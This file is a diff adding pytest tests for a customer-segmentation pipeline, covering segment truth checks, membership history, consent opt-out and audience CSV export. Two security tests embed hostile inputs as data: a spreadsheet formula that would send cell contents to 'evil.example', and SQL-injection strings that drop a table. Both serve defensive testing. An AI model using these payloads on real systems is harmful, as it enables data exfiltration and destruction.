@@ -1,0 +1,288 @@
+"""Segments built for real (dbt) on the small data set, checked against the generator's truth."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import shutil
+from datetime import date
+from pathlib import Path
+
+import duckdb
+import pytest
+import yaml
+
+from microseg.config import Settings
+from microseg.errors import MicrosegError
+from microseg.export import export_audience
+from microseg.ingest import ingest_paths
+from microseg.segments import run_segments
+from microseg.transform import run_dbt, transform
+from tests.helpers import query, truth_connection
+
+NIGHTS = (date(2026, 10, 3), date(2026, 10, 4), date(2026, 10, 6))
+
+# The default segments, re-derived from the generator's planted sessions (never from the
+# pipeline's marts): sessions in scope ended (+ 30 min timeout) before D, started within 7 days.
+EXPECTED_MEMBERS = """
+with
+truth as (
+    select t.*, p.person_id
+    from truth_sessions t join truth_people p using (person_key)
+),
+scope as (
+    select * from truth
+    where session_end_at + interval 30 minute < $as_of::timestamp
+      and session_start_at >= $as_of::timestamp - interval 7 day
+),
+windows as (
+    select person_id,
+           count(*) over (partition by person_id order by session_start_at
+                          range between current row and interval 24 hour following) as n
+    from scope
+),
+expected as (
+    select 'subscribe_curious_readers' as segment_name, person_id from scope where subscribe_curious
+    union select 'product_hesitators', person_id from scope where product_hesitation
+    union select 'deep_content_readers', person_id from scope where deep_read
+    union select 'cart_abandoners', person_id from scope where cart_abandon
+    union select 'low_engagement', person_id from scope group by person_id having bool_and(bounce)
+    union select 'frequent_visitors', person_id from windows where n > 3
+    union select 'recent_engagers', person_id from truth
+          where session_start_at < $as_of::timestamp
+            and session_end_at >= $as_of::timestamp - interval 60 minute
+)
+select segment_name, person_id from expected
+where person_id not in (select person_id from truth_people where is_opted_out)
+  -- consent on the as-of date (the truth only knows the final status)
+  and person_id not in (select person_id from marts.fct_user_features_daily
+                        where as_of_date = $as_of and is_opted_out)
+"""
+
+
+@pytest.fixture(scope="module")
+def segmented(built: Settings) -> Settings:
+    """Three nightly segment runs on the shared warehouse."""
+    for night in NIGHTS:
+        run_segments(built, night)
+    return built
+
+
+@pytest.fixture
+def con(segmented, small_dataset):
+    connection = truth_connection(segmented, small_dataset)
+    yield connection
+    connection.close()
+
+
+def _members(con, as_of: date) -> set[tuple[str, str]]:
+    return set(
+        con.execute(
+            "select segment_name, person_id from marts.segment_memberships where as_of_date = ?",
+            [as_of],
+        ).fetchall()
+    )
+
+
+def test_default_segments_match_the_planted_truth_exactly(con) -> None:
+    sizes: dict[str, int] = {}
+    for night in NIGHTS:
+        expected = set(con.execute(EXPECTED_MEMBERS, {"as_of": night}).fetchall())
+        found = _members(con, night)
+        assert found - expected == set(), f"unexpected members on {night}"
+        assert expected - found == set(), f"missing members on {night}"
+        for name, _ in found:
+            sizes[name] = sizes.get(name, 0) + 1
+    # every segment has members on some night, so none of the comparisons is vacuous
+    assert len(sizes) == 7 and min(sizes.values()) >= 3, sizes
+
+
+def test_evidence_holds_the_values_that_qualified(con) -> None:
+    rows = con.execute("""
+        select segment_name, evidence from marts.segment_memberships
+        where segment_name in ('subscribe_curious_readers', 'product_hesitators',
+                               'frequent_visitors')
+    """).fetchall()
+    assert rows
+    for name, evidence in rows:
+        values = json.loads(evidence)
+        if name == "subscribe_curious_readers":
+            assert values["article_views_10m"] >= 3 and values["subscribe_hovers"] >= 2
+        elif name == "product_hesitators":
+            assert values["product_dwell_s"] > 120
+        else:
+            assert values["sessions_24h"] > 3
+
+
+def test_history_records_joins_and_exits_across_three_nights(con) -> None:
+    members = {night: _members(con, night) for night in NIGHTS}
+    expected: dict[tuple[str, str, date], date | None] = {}
+    open_spells: dict[tuple[str, str], date] = {}
+    for night in NIGHTS:  # derive the spells by hand from the three nights
+        for key in members[night]:
+            open_spells.setdefault(key, night)
+        for key in [k for k in open_spells if k not in members[night]]:
+            expected[(*key, open_spells.pop(key))] = night
+    expected.update({(*key, start): None for key, start in open_spells.items()})
+    history = {
+        (segment, person, entered.date()): exited.date() if exited else None
+        for segment, person, entered, exited in con.execute(
+            "select segment_name, person_id, entered_at, exited_at "
+            "from marts.segment_membership_history"
+        ).fetchall()
+    }
+    assert history == expected
+    summary = con.execute("""
+        select as_of_date, sum(members), sum(joined), sum(left_segment)
+        from marts.segment_daily_summary group by all order by all
+    """).fetchall()
+    assert [row[0] for row in summary] == list(NIGHTS)
+    (_, m1, *_), (_, m2, j2, l2), (_, m3, j3, l3) = summary
+    assert j2 > 0 and l2 > 0 and j3 > 0 and l3 > 0  # people really came and went
+    assert m2 == m1 + j2 - l2 and m3 == m2 + j3 - l3
+
+
+def test_rerunning_a_night_changes_nothing(segmented: Settings) -> None:
+    tables = ("segment_memberships", "segment_membership_history", "segment_daily_summary")
+
+    def snapshot() -> dict[str, list[tuple]]:
+        return {t: query(segmented, f"select * from marts.{t} order by all") for t in tables}
+
+    before = snapshot()
+    run_segments(segmented, NIGHTS[1])
+    assert snapshot() == before
+
+
+@pytest.fixture
+def scratch(built: Settings, tmp_path: Path) -> Settings:
+    """A private copy of the built warehouse (for tests that add events or segments)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    shutil.copy(built.warehouse_path, home / "warehouse.duckdb")
+    return Settings.from_env({"MICROSEG_HOME": str(home), "MICROSEG_LATE_ARRIVAL_HOURS": "96"})
+
+
+def _event(event_id: str, event_type: str, at: str, **fields) -> dict:
+    return {"event_id": event_id, "event_type": event_type, "event_at": at, **fields}
+
+
+def test_opt_out_leaves_every_segment_and_export_and_formulas_are_neutralized(
+    scratch: Settings, tmp_path: Path
+) -> None:
+    night = date(2026, 10, 6)
+    run_segments(scratch, NIGHTS[0])
+    run_segments(scratch, night)
+    leaver, leaver_user = query(
+        scratch,
+        "select m.person_id, p.user_id from marts.segment_memberships m "
+        "join marts.dim_persons p using (person_id) "
+        "where m.as_of_date = ? and m.segment_name = 'cart_abandoners' and p.user_id is not null "
+        "and m.person_id in (select person_id from marts.segment_memberships "
+        "                    where as_of_date = ?) order by 1 limit 1",
+        [night, NIGHTS[0]],
+    )[0]
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    product = {"page_type": "product", "page_url": "https://shop.example.com/product/9"}
+    events = [
+        # the leaver withdraws consent for personalization
+        _event(
+            "t-optout",
+            "consent",
+            "2026-10-05T20:00:00Z",
+            user_id=leaver_user,
+            properties={"purposes": {"personalization": False, "marketing": False}},
+        ),
+        # a new cart abandoner whose login id is a spreadsheet formula
+        _event("t-evil-1", "page_view", "2026-10-05T20:00:00Z", user_id=evil, **product),
+        _event("t-evil-2", "add_to_cart", "2026-10-05T20:01:00Z", user_id=evil, **product),
+    ]
+    dump = tmp_path / "late.jsonl"
+    dump.write_text("".join(json.dumps(e) + "\n" for e in events))
+    ingest_paths(scratch, [dump])
+    transform(scratch)
+    run_segments(scratch, night)
+
+    assert query(
+        scratch, "select count(*) from marts.segment_memberships where person_id = ?", [leaver]
+    ) == [(0,)]  # gone from this night and from the earlier one
+    assert query(
+        scratch,
+        "select count(*) from marts.segment_membership_history where person_id = ?",
+        [leaver],
+    ) == [(0,)]
+
+    out = tmp_path / "audience.csv"
+    result = export_audience(scratch, "cart_abandoners", out)
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == result.rows > 10
+    assert leaver not in {row["person_id"] for row in rows}
+    evil_rows = [row for row in rows if evil in row["user_id"]]
+    assert [row["user_id"] for row in evil_rows] == ["'" + evil]
+    assert not any(value[:1] in "=+-@" for row in rows for value in row.values() if value)
+    assert rows[0]["last_seen_at"].endswith("Z") and "T" in rows[0]["last_seen_at"]
+    manifest = json.loads(result.manifest_path.read_text())
+    assert manifest["rows"] == len(rows) and manifest["as_of_date"] == "2026-10-06"
+    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
+    assert (
+        manifest["segment_definition_hash"]
+        == query(
+            scratch,
+            "select definition_hash from marts.segment_evaluations "
+            "where segment_name = 'cart_abandoners' and as_of_date = ?",
+            [night],
+        )[0][0]
+    )
+    # exporting again writes the same bytes
+    first = out.read_bytes()
+    export_audience(scratch, "cart_abandoners", out)
+    assert out.read_bytes() == first
+
+
+def test_a_definition_cannot_inject_sql(scratch: Settings, tmp_path: Path) -> None:
+    hostile = "article'; drop table marts.fct_sessions; --"
+    definitions = tmp_path / "segments.yml"
+    rule = {"any_session": {"count": "page_view", "where": {"page_type": hostile}, ">=": 1}}
+    segment = {"name": "probe", "description": "d", "owner": "o", "kind": "rule", "rule": rule}
+    definitions.write_text(yaml.safe_dump({"segments": [segment]}))
+    settings = Settings.from_env(
+        {"MICROSEG_HOME": str(scratch.home), "MICROSEG_SEGMENTS_FILE": str(definitions)}
+    )
+    assert run_segments(settings, NIGHTS[0]) == {"probe": 0}
+    assert query(settings, "select count(*) from marts.fct_sessions")[0][0] > 500
+    # the macros check identifiers again, for a plan handed to dbt without microseg
+    plan = {
+        "name": "probe",
+        "title": "t",
+        "description": "d",
+        "owner": "o",
+        "kind": "rule",
+        "priority": 0,
+        "exclusive_group": None,
+        "definition_hash": "x",
+        "blocks": [],
+        "person_leaves": [
+            {
+                "id": "l0",
+                "subject": "feature",
+                "key": "k",
+                "op": ">",
+                "value": 1,
+                "column": "sessions_7d from marts.fct_sessions; --",
+            }
+        ],
+        "expression": {"ref": "l0"},
+        "evidence": [["k", "l0"]],
+    }
+    with pytest.raises(MicrosegError, match="invalid identifier"):
+        run_dbt(
+            settings,
+            "build",
+            "--select",
+            "segment_memberships",
+            "--vars",
+            json.dumps({"segment_as_of": "2026-10-03", "segments": [plan]}),
+        )
+    with duckdb.connect(str(settings.warehouse_path), read_only=True) as con:
+        assert con.execute("select count(*) from marts.fct_sessions").fetchone()[0] > 500
